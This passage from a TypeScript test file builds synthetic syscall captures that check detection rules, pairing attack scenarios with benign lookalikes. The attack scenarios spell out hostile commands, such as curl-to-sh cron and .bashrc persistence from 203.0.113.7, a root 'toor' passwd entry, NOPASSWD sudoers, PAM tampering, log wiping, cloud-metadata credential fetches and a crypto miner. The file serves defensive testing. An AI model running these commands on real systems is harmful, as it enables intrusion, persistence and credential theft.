      .spawn(101, ROOT_SHELL, '/usr/sbin/ldconfig', {})
      .openat(101, 3, '/etc/ld.so.cache~', O.WRONLY | O.CREAT | O.TRUNC, 0o644)
      .renameat2(101, '/etc/ld.so.cache~', '/etc/ld.so.cache')
  },

  'account-database': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/bash', { args: ['-c', 'echo "toor:x:0:0::/root:/bin/bash" >> /etc/passwd'] })
      .openat(100, 3, '/etc/passwd', O.WRONLY | O.CREAT | O.APPEND, 0o666)
      .spawn(101, ROOT_SHELL, '/usr/bin/python3.11', { comm: 'python3', args: ['edit.py'] })
      .openat(101, 3, '/etc/shadow', O.RDWR)
      .spawn(102, ROOT_SHELL, '/usr/bin/mv', { args: ['/tmp/group', '/etc/group'] })
      .renameat2(102, '/tmp/group', '/etc/group')
  },
  'account-database.benign': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/sbin/useradd', { args: ['-m', 'bob'] })
      .openat(100, 3, '/etc/passwd', O.RDWR)
      .openat(100, 4, '/etc/passwd+', O.WRONLY | O.CREAT | O.TRUNC, 0o644)
      .renameat2(100, '/etc/passwd+', '/etc/passwd')
      .spawn(101, USER_SHELL, '/usr/bin/passwd', { uid: 0 })
      .openat(101, 3, '/etc/nshadow', O.WRONLY | O.CREAT | O.TRUNC, 0o600)
      .renameat2(101, '/etc/nshadow', '/etc/shadow')
      .spawn(102, ROOT_SHELL, '/usr/bin/dpkg', { args: ['--configure', 'base-passwd'] })
      .spawn(103, 102, '/usr/sbin/update-passwd', {})
      .openat(103, 3, '/etc/group', O.WRONLY | O.CREAT | O.TRUNC, 0o644)
      .spawn(104, ROOT_SHELL, '/usr/bin/cat', { args: ['/etc/passwd'] })
      .openat(104, 3, '/etc/passwd', O.RDONLY)
  },

  'sudoers': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/bash', { args: ['-c', 'echo "www-data ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/99-www'] })
      .openat(100, 3, '/etc/sudoers.d/99-www', O.WRONLY | O.CREAT | O.TRUNC, 0o666)
      .spawn(101, ROOT_SHELL, '/usr/bin/tee', { args: ['-a', '/etc/sudoers'] })
      .openat(101, 3, '/etc/sudoers', O.WRONLY | O.CREAT | O.APPEND, 0o666)
  },
  'sudoers.benign': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/sbin/visudo', {})
      .openat(100, 3, '/etc/sudoers.tmp', O.WRONLY | O.CREAT, 0o440)
      .renameat2(100, '/etc/sudoers.tmp', '/etc/sudoers')
      .spawn(101, ROOT_SHELL, '/usr/bin/dpkg', { args: ['--unpack', 'sudo.deb'] })
      .openat(101, 3, '/etc/sudoers.d/README.dpkg-new', O.WRONLY | O.CREAT | O.TRUNC, 0o440)
      .renameat2(101, '/etc/sudoers.d/README.dpkg-new', '/etc/sudoers.d/README')
      .spawn(102, 1, '/usr/bin/cloud-init', { args: ['init'] })
      .openat(102, 3, '/etc/sudoers.d/90-cloud-init-users', O.WRONLY | O.CREAT | O.TRUNC, 0o440)
  },

  'pam': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/python3.11', { comm: 'python3', args: ['backdoor.py'] })
      .openat(100, 3, '/etc/pam.d/common-auth', O.WRONLY | O.TRUNC)
      .spawn(101, ROOT_SHELL, '/usr/bin/sed', { args: ['-i', 's/^auth/#auth/', '/etc/pam.d/sshd'] })
      .openat(101, 4, '/etc/pam.d/sedX1Y2Z3', O.RDWR | O.CREAT, 0o600)
      .renameat2(101, '/etc/pam.d/sedX1Y2Z3', '/etc/pam.d/sshd')
  },
  'pam.benign': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/sbin/pam-auth-update', { args: ['--package'] })
      .openat(100, 3, '/etc/pam.d/common-auth.pam-new', O.WRONLY | O.CREAT | O.TRUNC, 0o644)
      .renameat2(100, '/etc/pam.d/common-auth.pam-new', '/etc/pam.d/common-auth')
      .spawn(101, ROOT_SHELL, '/usr/bin/dpkg', { args: ['--configure', 'openssh-server'] })
      .spawn(102, 101, '/usr/bin/ucf', { args: ['/usr/share/openssh/sshd.pam', '/etc/pam.d/sshd'] })
      .spawn(103, 102, '/usr/bin/cp', { args: ['/usr/share/openssh/sshd.pam', '/etc/pam.d/sshd'] })
      .openat(103, 3, '/etc/pam.d/sshd', O.WRONLY | O.CREAT | O.TRUNC, 0o644)
      .openat(11, 6, '/etc/pam.d/sshd', O.RDONLY)
  },

  'ssh-access': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/bash', { args: ['-c', 'echo ssh-ed25519 AAAA... >> /root/.ssh/authorized_keys'] })
      .openat(100, 3, '/root/.ssh/authorized_keys', O.WRONLY | O.CREAT | O.APPEND, 0o666)
      .spawn(101, ROOT_SHELL, '/usr/bin/sed', { args: ['-i', 's/^#PermitRootLogin.*/PermitRootLogin yes/', '/etc/ssh/sshd_config'] })
      .openat(101, 4, '/etc/ssh/sedA1B2C3', O.RDWR | O.CREAT, 0o600)
      .renameat2(101, '/etc/ssh/sedA1B2C3', '/etc/ssh/sshd_config')
  },
  'ssh-access.benign': (s) => {
    hostSession(s)
    s.spawn(100, 1, '/usr/bin/cloud-init', { args: ['modules', '--mode', 'config'] })
      .openat(100, 3, '/home/admin/.ssh/authorized_keys', O.WRONLY | O.CREAT | O.TRUNC, 0o600)
      .openat(11, 7, '/root/.ssh/authorized_keys', O.RDONLY)
      .spawn(101, USER_SHELL, '/usr/bin/ssh', { uid: 1000, args: ['host.example'] })
      .openat(101, 3, '/home/alice/.ssh/known_hosts', O.WRONLY | O.APPEND | O.CREAT, 0o600)
      .spawn(102, ROOT_SHELL, '/usr/bin/dpkg', { args: ['--configure', 'openssh-server'] })
      .spawn(103, 102, '/usr/bin/ucf', { args: ['/usr/share/openssh/sshd_config', '/etc/ssh/sshd_config'] })
      .spawn(104, 103, '/usr/bin/mv', { args: ['/etc/ssh/sshd_config.ucf-new', '/etc/ssh/sshd_config'] })
      .renameat2(104, '/etc/ssh/sshd_config.ucf-new', '/etc/ssh/sshd_config')
  },

  'cron': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/crontab', { args: ['-e'] })
      .openat(100, 3, '/var/spool/cron/crontabs/tmp.XQp2Zs', O.WRONLY | O.CREAT | O.TRUNC, 0o600)
      .renameat2(100, '/var/spool/cron/crontabs/tmp.XQp2Zs', '/var/spool/cron/crontabs/root')
      .spawn(101, ROOT_SHELL, '/usr/bin/bash', { args: ['-c', 'echo "* * * * * root curl -s http://203.0.113.7/u|sh" > /etc/cron.d/update'] })
      .openat(101, 3, '/etc/cron.d/update', O.WRONLY | O.CREAT | O.TRUNC, 0o666)
  },
  'cron.benign': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/dpkg', { args: ['--unpack', 'logrotate.deb'] })
      .openat(100, 3, '/etc/cron.daily/logrotate.dpkg-new', O.WRONLY | O.CREAT | O.TRUNC, 0o755)
      .renameat2(100, '/etc/cron.daily/logrotate.dpkg-new', '/etc/cron.daily/logrotate')
      .spawn(101, 1, '/usr/sbin/cron', { args: ['-f'] })
      .openat(101, 3, '/etc/crontab', O.RDONLY)
      .spawn(102, 1, '/usr/sbin/anacron', { args: ['-d'] })
      .openat(102, 3, '/var/spool/anacron/cron.daily', O.WRONLY | O.CREAT, 0o600)
  },

  'binary-dir': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/cp', { args: ['/tmp/ls', '/usr/bin/ls'] })
      .openat(100, 4, '/usr/bin/ls', O.WRONLY | O.CREAT | O.TRUNC, 0o755)
      .spawn(101, ROOT_SHELL, '/usr/bin/ln', { args: ['-sf', '/tmp/.x/sudo', '/usr/local/bin/sudo'] })
      .symlinkat(101, '/tmp/.x/sudo', '/usr/local/bin/sudo')
    runtime(s)
    s.spawn(110, SHIM, '/usr/bin/curl', { container: WEB, vpid: 60, args: ['-so', '/usr/local/bin/kubectl', 'https://203.0.113.7/k'] })
      .openat(110, 3, '/usr/local/bin/kubectl', O.WRONLY | O.CREAT | O.TRUNC, 0o666)
  },
  'binary-dir.benign': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/apt-get', { args: ['install', 'htop'] })
      .spawn(101, 100, '/usr/bin/dpkg', { args: ['--unpack', 'htop.deb'] })
      .openat(101, 3, '/usr/bin/htop.dpkg-new', O.WRONLY | O.CREAT | O.TRUNC, 0o755)
      .renameat2(101, '/usr/bin/htop.dpkg-new', '/usr/bin/htop')
      .spawn(102, 101, '/usr/bin/update-alternatives', { args: ['--install', '/usr/bin/editor', 'editor', '/usr/bin/vim.basic', '30'] })
      .symlinkat(102, '/etc/alternatives/editor', '/usr/bin/editor')
      .spawn(103, ROOT_SHELL, '/usr/bin/node', { args: ['/usr/bin/npm', 'install', '-g', 'typescript'] })
      .symlinkat(103, '../lib/node_modules/typescript/bin/tsc', '/usr/local/bin/tsc')
      .spawn(104, ROOT_SHELL, '/usr/bin/make', { args: ['install'] })
      .spawn(105, 104, '/usr/bin/install', { args: ['-m', '755', 'tool', '/usr/local/bin/tool'] })
      .openat(105, 3, '/usr/local/bin/tool', O.WRONLY | O.CREAT | O.TRUNC, 0o600)
      .spawn(106, ROOT_SHELL, '/usr/bin/pip3', { args: ['install', 'black'] })
      .openat(106, 3, '/usr/local/bin/black', O.WRONLY | O.CREAT | O.TRUNC, 0o755)
      .spawn(107, ROOT_SHELL, '/usr/bin/cat', { args: ['/usr/bin/ls'] })
      .openat(107, 3, '/usr/bin/ls', O.RDONLY)
  },

  'sensitive-link': (s) => {
    hostSession(s)
    s.spawn(100, USER_SHELL, '/usr/bin/ln', { uid: 1000, args: ['-s', '/etc/shadow', '/tmp/report.log'] })
      .symlinkat(100, '/etc/shadow', '/tmp/report.log')
      .spawn(101, USER_SHELL, '/usr/bin/ln', { uid: 1000, args: ['/etc/sudoers', '/home/alice/s'] })
      .linkat(101, '/etc/sudoers', '/home/alice/s')
  },
  'sensitive-link.benign': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/ln', { args: ['-s', '/var/log/app/current.log', '/tmp/app.log'] })
      .symlinkat(100, '/var/log/app/current.log', '/tmp/app.log')
      .spawn(101, ROOT_SHELL, '/usr/bin/update-alternatives', { args: ['--set', 'editor', '/usr/bin/vim.basic'] })
      .symlinkat(101, '/usr/bin/vim.basic', '/etc/alternatives/editor')
  },

  'log-clearing': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/bash', { args: ['-c', ': > /var/log/auth.log'] })
      .openat(100, 3, '/var/log/auth.log', O.WRONLY | O.CREAT | O.TRUNC, 0o666)
      .spawn(101, ROOT_SHELL, '/usr/bin/rm', { args: ['-f', '/var/log/wtmp'] })
      .unlinkat(101, '/var/log/wtmp')
      .spawn(102, ROOT_SHELL, '/usr/bin/python3.11', { comm: 'python3', args: ['clean.py'] })
      .openat(102, 3, '/var/log/syslog', O.WRONLY | O.TRUNC)
  },
  'log-clearing.benign': (s) => {
    hostSession(s)
    s.spawn(100, 1, '/usr/sbin/logrotate', { args: ['/etc/logrotate.conf'] })
      .openat(100, 3, '/var/log/syslog', O.WRONLY | O.TRUNC)
      .spawn(101, 100, '/usr/bin/gzip', { args: ['/var/log/syslog.1'] })
      .unlinkat(101, '/var/log/syslog.1')
      .spawn(102, 1, '/usr/sbin/rsyslogd', { args: ['-n'] })
      .openat(102, 3, '/var/log/syslog', O.WRONLY | O.CREAT | O.APPEND, 0o640)
      .spawn(103, ROOT_SHELL, '/usr/bin/apt-get', { args: ['install', 'htop'] })
      .openat(103, 3, '/var/log/apt/eipp.log.xz', O.WRONLY | O.CREAT | O.TRUNC, 0o644)
      .spawn(104, 1, '/usr/lib/systemd/systemd-journald', {})
      .unlinkat(104, '/var/log/journal/0123456789abcdef/system@0005f.journal~')
      .spawn(105, 1, '/usr/bin/kubelet', {})
      .unlinkat(105, '/var/log/pods/shop_web-6d9f7-abcde_1234/nginx/0.log')
      .spawn(106, 1, '/usr/bin/dash', { comm: 'sa2', args: ['/usr/lib/sysstat/sa2', '-A'] })
      .spawn(107, 106, '/usr/bin/find', { args: ['/var/log/sysstat', '-mtime', '+28', '-delete'] })
      .unlinkat(107, '/var/log/sysstat/sa01')
  },

  'history-clearing': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/bash', { args: ['-c', '> /root/.bash_history'] })
      .openat(100, 3, '/root/.bash_history', O.WRONLY | O.CREAT | O.TRUNC, 0o666)
      .spawn(101, USER_SHELL, '/usr/bin/rm', { uid: 1000, args: ['/home/alice/.zsh_history'] })
      .unlinkat(101, '/home/alice/.zsh_history')
      .spawn(102, ROOT_SHELL, '/usr/bin/ln', { args: ['-sf', '/dev/null', '/root/.bash_history'] })
      .symlinkat(102, '/dev/null', '/root/.bash_history')
      .spawn(103, ROOT_SHELL, '/usr/bin/shred', { args: ['/root/.bash_history'] })
      .openat(103, 3, '/root/.bash_history', O.WRONLY)
  },
  'history-clearing.benign': (s) => {
    hostSession(s)
    // bash saving its history on exit: a new copy renamed over the old one, or an append
    s.openat(ROOT_SHELL, 3, '/root/.bash_history-01234.tmp', O.WRONLY | O.CREAT | O.TRUNC, 0o600)
      .renameat2(ROOT_SHELL, '/root/.bash_history-01234.tmp', '/root/.bash_history')
      .openat(USER_SHELL, 3, '/home/alice/.bash_history', O.WRONLY | O.APPEND, 0o600)
      .spawn(100, USER_SHELL, '/usr/bin/zsh', { uid: 1000 })
      .openat(100, 3, '/home/alice/.zsh_history.new', O.WRONLY | O.CREAT | O.TRUNC, 0o600)
      .renameat2(100, '/home/alice/.zsh_history.new', '/home/alice/.zsh_history')
      .spawn(101, ROOT_SHELL, '/usr/bin/cat', { args: ['/root/.bash_history'] })
      .openat(101, 3, '/root/.bash_history', O.RDONLY)
  },

  'packet-socket': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/python3.11', { comm: 'python3', args: ['sniff.py'] })
      .socket(100, 3, AF.PACKET, SOCK.RAW, 768)
  },
  'packet-socket.benign': (s) => {
    hostSession(s)
    s.spawn(100, 1, '/usr/sbin/dhclient', { args: ['-4', 'eth0'] })
      .socket(100, 3, AF.PACKET, SOCK.RAW, 768)
      .spawn(101, ROOT_SHELL, '/usr/bin/tcpdump', { args: ['-i', 'eth0'] })
      .socket(101, 3, AF.PACKET, SOCK.RAW, 768)
      .spawn(102, ROOT_SHELL, '/usr/bin/python3.11', { comm: 'python3', args: ['server.py'] })
      .socket(102, 3, AF.INET, SOCK.STREAM)
  },

  'shell-startup': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/bash', { args: ['-c', 'echo "curl -s http://203.0.113.7/b|sh" >> /root/.bashrc'] })
      .openat(100, 3, '/root/.bashrc', O.WRONLY | O.CREAT | O.APPEND, 0o666)
      .spawn(101, ROOT_SHELL, '/usr/bin/python3.11', { comm: 'python3', args: ['persist.py'] })
      .openat(101, 3, '/etc/profile.d/zz-update.sh', O.WRONLY | O.CREAT | O.TRUNC, 0o644)
  },
  'shell-startup.benign': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/sbin/useradd', { args: ['-m', 'bob'] })
      .openat(100, 3, '/home/bob/.bashrc', O.WRONLY | O.CREAT | O.TRUNC, 0o644)
      .spawn(101, ROOT_SHELL, '/usr/bin/dpkg', { args: ['--unpack', 'bash.deb'] })
      .openat(101, 3, '/etc/bash.bashrc.dpkg-new', O.WRONLY | O.CREAT | O.TRUNC, 0o644)
      .renameat2(101, '/etc/bash.bashrc.dpkg-new', '/etc/bash.bashrc')
      .openat(ROOT_SHELL, 3, '/root/.bashrc', O.RDONLY)
  },

  // --- saker_rules_incubating.yaml ----------------------------------------------------------

  'container-drift': (s) => {
    runtime(s)
    s.spawn(100, SHIM, '/usr/sbin/nginx', { container: WEB, vpid: 1, exeFlags: EXE.LOWER_LAYER })
      .spawn(101, 100, '/usr/local/bin/payload', { vpid: 70, exeFlags: EXE.UPPER_LAYER | EXE.WRITABLE })
  },
  'container-drift.benign': (s) => {
    runtime(s)
    s.spawn(100, SHIM, '/usr/bin/bash', { container: DEV, vpid: 1, exeFlags: EXE.LOWER_LAYER })
      .spawn(101, 100, '/usr/bin/curl', { vpid: 80, exeFlags: EXE.LOWER_LAYER })
      .spawn(102, 100, '/usr/bin/apt-get', { vpid: 81, args: ['install', '-y', 'jq'], exeFlags: EXE.LOWER_LAYER })
      .spawn(103, 102, '/usr/bin/dpkg', { vpid: 82, exeFlags: EXE.LOWER_LAYER })
      .spawn(104, 103, '/usr/bin/jq', { vpid: 83, args: ['--version'], exeFlags: EXE.UPPER_LAYER })
      .spawn(110, 1, '/usr/local/bin/tool', { exeFlags: EXE.UPPER_LAYER })
  },

  'temp-exec': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/tmp/.ICE-unix/kworkerd', { comm: 'kworkerd' })
    runtime(s)
    s.spawn(110, SHIM, '/var/tmp/a', { container: WEB, vpid: 90 })
  },
  'temp-exec.benign': (s) => {
    hostSession(s)
    s.spawn(100, USER_SHELL, '/usr/local/go/bin/go', { uid: 1000, args: ['test', './...'] })
      .spawn(101, 100, '/tmp/go-build3105/b001/pkg.test', { comm: 'pkg.test' })
      .spawn(102, USER_SHELL, '/usr/bin/make', { uid: 1000, args: ['check'] })
      .spawn(103, 102, '/tmp/build/unit-tests', { comm: 'unit-tests' })
      .spawn(104, ROOT_SHELL, '/usr/bin/dash', { comm: 'sh', args: ['/tmp/install.sh'] })
  },

  'dangerous-capabilities': (s) => {
    hostSession(s)
    s.spawn(100, USER_SHELL, '/usr/bin/python3.11', { comm: 'python3', uid: 1000, capEffective: bit(CAP.SETUID) })
  },
  'dangerous-capabilities.benign': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/python3.11', { comm: 'python3', uid: 0 })
      .spawn(101, USER_SHELL, '/usr/bin/newuidmap', { uid: 1000, capEffective: bit(CAP.SETUID) })
      .spawn(102, USER_SHELL, '/usr/bin/ping', { uid: 1000, capEffective: bit(CAP.NET_RAW), args: ['10.0.0.1'] })
      .spawn(103, USER_SHELL, '/usr/bin/ls', { uid: 1000, capEffective: 0n })
  },

  'k8s-api': (s) => {
    runtime(s)
    s.spawn(100, SHIM, '/usr/bin/python3', { container: WEB, vpid: 100, args: ['app.py'] })
      .connect(100, 3, '10.96.0.1', 443)
      .spawn(101, SHIM, '/usr/local/bin/kubectl', { container: WEB, vpid: 101, args: ['get', 'secrets', '-A'] })
      .connect(101, 3, '192.168.1.10', 6443, EINPROGRESS)
  },
  'k8s-api.benign': (s) => {
    runtime(s)
    s.spawn(100, SHIM, '/coredns', { container: DNS, vpid: 1, args: ['-conf', '/etc/coredns/Corefile'] })
      .connect(100, 3, '10.96.0.1', 443)
      .spawn(101, SHIM, '/usr/bin/python3', { container: WEB, vpid: 102, args: ['app.py'] })
      .connect(101, 3, '10.96.0.10', 53)
      .connect(101, 4, '10.96.0.1', 80)
      .spawn(102, 1, '/usr/bin/kubelet', {})
      .connect(102, 3, '192.168.1.10', 6443)
  },

  'cloud-metadata': (s) => {
    runtime(s)
    s.spawn(100, SHIM, '/usr/bin/curl', { container: WEB, vpid: 110, args: ['http://169.254.169.254/latest/meta-data/iam/security-credentials/'] })
      .connect(100, 3, '169.254.169.254', 80)
  },
  'cloud-metadata.benign': (s) => {
    runtime(s)
    s.spawn(100, 1, '/usr/bin/cloud-init', { args: ['init'] })
      .connect(100, 3, '169.254.169.254', 80)
      .spawn(101, SHIM, '/app/aws-k8s-agent', { container: DNS, vpid: 1 })
      .connect(101, 3, '169.254.169.254', 80)
      .spawn(102, SHIM, '/usr/bin/curl', { container: WEB, vpid: 111, args: ['http://10.0.0.5/'] })
      .connect(102, 3, '10.0.0.5', 80)
  },

  'mining': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/tmp/.x/xmrig', { comm: 'xmrig', args: ['--donate-level', '1'] })
      .connect(100, 3, '198.51.100.20', 3333)
    runtime(s)
    s.spawn(110, SHIM, '/usr/local/bin/worker', { container: WEB, vpid: 120, args: ['-o', 'stratum+tcp://pool.example.org:443', '-u', 'wallet'] })
  },
  'mining.benign': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/python3.11', { comm: 'python3', args: ['dev-server.py'] })
      .connect(100, 3, '10.0.0.7', 4444)
      .connect(100, 4, '127.0.0.1', 9999)
      .connect(100, 5, '203.0.113.9', 443)
      .spawn(101, ROOT_SHELL, '/usr/bin/curl', { args: ['--url', 'https://example.org/'] })
  },

  'ssh-port': (s) => {
    hostSession(s)
    s.spawn(100, USER_SHELL, '/usr/bin/ssh', { uid: 1000, args: ['-p', '443', '-R', '9000:localhost:22', 'relay@203.0.113.50'] })
      .connect(100, 3, '203.0.113.50', 443)
  },
  'ssh-port.benign': (s) => {
    hostSession(s)
    s.spawn(100, USER_SHELL, '/usr/bin/ssh', { uid: 1000, args: ['alice@203.0.113.50'] })
      .connect(100, 3, '203.0.113.50', 22)
      .spawn(101, USER_SHELL, '/usr/bin/ssh', { uid: 1000, args: ['-p', '2222', 'vagrant@127.0.0.1'] })
      .connect(101, 3, '127.0.0.1', 2222, 0, '127.0.0.1')
      .spawn(102, USER_SHELL, '/usr/bin/scp', { uid: 1000, args: ['-P', '2200', 'f', 'bastion.internal:'] })
      .connect(102, 3, '10.0.0.4', 2200)
      .spawn(103, USER_SHELL, '/usr/bin/curl', { uid: 1000, args: ['http://203.0.113.50:2222/'] })
      .connect(103, 3, '203.0.113.50', 2222)
  },

  // --- saker_rules_sandbox.yaml -------------------------------------------------------------

  'interactive-commands': (s) => {
    runtime(s)
    s.spawn(100, SHIM, '/usr/bin/bash', { container: WEB, vpid: 7, tty: TTY_PTS0 })
      .spawn(101, 100, '/usr/bin/cat', { vpid: 8, args: ['/etc/os-release'] })
      .spawn(102, 100, '/usr/bin/id', { vpid: 9 })
  },
  'interactive-commands.benign': (s) => {
    runtime(s)
    hostSession(s)
    s.spawn(100, SHIM, '/bin/sh', { container: WEB, vpid: 7, args: ['/docker-entrypoint.sh'] })
      .spawn(101, 100, '/usr/bin/cat', { vpid: 8, args: ['/etc/nginx/nginx.conf'] })
      .spawn(102, ROOT_SHELL, '/usr/bin/ls', { args: ['-l'] })
  },

  'container-egress': (s) => {
    runtime(s)
    s.spawn(100, SHIM, '/usr/bin/python3', { container: WEB, vpid: 130, args: ['app.py'] })
      .connect(100, 3, '203.0.113.80', 443)
  },
  'container-egress.benign': (s) => {
    runtime(s)
    hostSession(s)
    s.spawn(100, SHIM, '/usr/bin/python3', { container: WEB, vpid: 131, args: ['app.py'] })
      .connect(100, 3, '10.0.0.9', 5432)
      .connect(100, 4, '8.8.8.8', 53)
      .spawn(101, ROOT_SHELL, '/usr/bin/curl', { args: ['https://203.0.113.80/'] })
      .connect(101, 3, '203.0.113.80', 443)
  },

  // --- no rule may fire --------------------------------------------------------------------

  'ordinary-work': (s) => {
    hostSession(s)
    runtime(s)
    // npm ci: node runs lifecycle scripts through sh, node-gyp builds with make, links bins
    s.spawn(100, USER_SHELL, '/usr/bin/node', { uid: 1000, args: ['/usr/bin/npm', 'ci'], cwd: '/home/alice/app' })
      .connect(100, 20, '104.16.24.35', 443)
      .openat(100, 21, '/home/alice/app/node_modules/.package-lock.json', O.WRONLY | O.CREAT | O.TRUNC, 0o666)
      .symlinkat(100, '../typescript/bin/tsc', '/home/alice/app/node_modules/.bin/tsc')
      .spawn(101, 100, '/bin/sh', { args: ['-c', 'node-gyp rebuild'] })
      .spawn(102, 101, '/usr/bin/node', { args: ['/usr/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js', 'rebuild'] })
      .spawn(103, 102, '/usr/bin/make', { args: ['BUILDTYPE=Release', '-C', 'build'] })
      .spawn(104, 103, '/bin/sh', { args: ['-c', 'g++ -o Release/obj.target/addon.o ../src/addon.cc'] })
      .spawn(105, 104, '/usr/bin/g++', { args: ['-o', 'Release/obj.target/addon.o', '../src/addon.cc'] })
      .openat(105, 3, '/tmp/ccAbCdEf.s', O.RDWR | O.CREAT | O.TRUNC, 0o600)
      .exit(105).exit(104).exit(103).exit(102).exit(101)
    // a TypeScript build
      .spawn(110, USER_SHELL, '/usr/bin/node', { uid: 1000, args: ['node_modules/.bin/tsc', '-p', 'tsconfig.json'] })
      .openat(110, 3, '/home/alice/app/dist/index.js', O.WRONLY | O.CREAT | O.TRUNC, 0o666)
      .exit(110)
    // apt-get install htop
      .spawn(120, ROOT_SHELL, '/usr/bin/apt-get', { args: ['install', '-y', 'htop'] })
      .spawn(121, 120, '/usr/lib/apt/methods/http', { comm: 'http' })
      .setresuid(121, 42, 42, 42)
      .connect(121, 3, '151.101.2.132', 80)
      .openat(120, 4, '/var/log/apt/eipp.log.xz', O.WRONLY | O.CREAT | O.TRUNC, 0o644)
      .spawn(122, 120, '/usr/bin/dpkg', { args: ['--unpack', '/var/cache/apt/archives/htop.deb'] })
      .openat(122, 3, '/usr/bin/htop.dpkg-new', O.WRONLY | O.CREAT | O.TRUNC, 0o755)
      .renameat2(122, '/usr/bin/htop.dpkg-new', '/usr/bin/htop')
      .openat(122, 4, '/var/log/dpkg.log', O.WRONLY | O.CREAT | O.APPEND, 0o644)
      .spawn(123, 122, '/usr/bin/dash', { comm: 'sh', args: ['/var/lib/dpkg/info/htop.postinst', 'configure'] })
      .spawn(124, 123, '/usr/sbin/setcap', { args: ['cap_net_raw+p', '/usr/bin/htop'] })
      .spawn(125, 122, '/usr/sbin/ldconfig', {})
      .exit(125).exit(124).exit(123).exit(122).exit(121).exit(120)
    // a container started and stopped (runc clones itself into memory, sets up namespaces)
      .spawn(130, SHIM, '/usr/bin/runc', { args: ['create', '--bundle', '/run/containerd/x'] })
      .exec(130, '/memfd:runc_cloned:/proc/self/exe (deleted)', { comm: 'runc', args: ['init'], exeFlags: EXE.FROM_MEMFD })
      .spawn(131, 130, '/usr/bin/runc', { container: WEB, comm: 'runc:[1:CHILD]', args: ['init'] })
      .unshare(131, NS.NEWNS | NS.NEWNET)
      .setns(131, 6, NS.NEWNET)
      .spawn(132, 131, '/usr/sbin/nginx', { vpid: 1, args: ['-g', 'daemon off;'], exeFlags: EXE.LOWER_LAYER })
      .spawn(133, 132, '/usr/sbin/nginx', { vpid: 29, args: ['worker'] })
      .exit(133).exit(132).exit(131).exit(130)
      .spawn(134, 1, '/usr/bin/kubelet', {})
      .unlinkat(134, '/var/log/pods/shop_web-6d9f7-abcde_1234/nginx/0.log')
  },
}

/** Every scenario's capture, by file name (name + ".scap"). */
export function buildAll(): Map<string, Uint8Array> {
  const out = new Map<string, Uint8Array>()
  for (const [name, build] of Object.entries(SCENARIOS)) {
    const s = new Scenario()
    build(s)
    out.set(`${name}.scap`, s.bytes())
  }
  return out
}

// `node dist/test/rules-default/synthetic-captures.js --write [dir]` writes the files; without
// --write (as when node --test loads this file) nothing happens.
if (process.argv.includes('--write')) {
  const { mkdirSync, writeFileSync } = await import('node:fs')
  const { join, resolve } = await import('node:path')
  const i = process.argv.indexOf('--write')
  const dir = resolve(process.argv[i + 1] ?? 'rules/tests/captures')
  mkdirSync(dir, { recursive: true })
  for (const [name, bytes] of buildAll()) writeFileSync(join(dir, name), bytes)
  process.stdout.write(`wrote ${Object.keys(SCENARIOS).length} captures to ${dir}\n`)
}
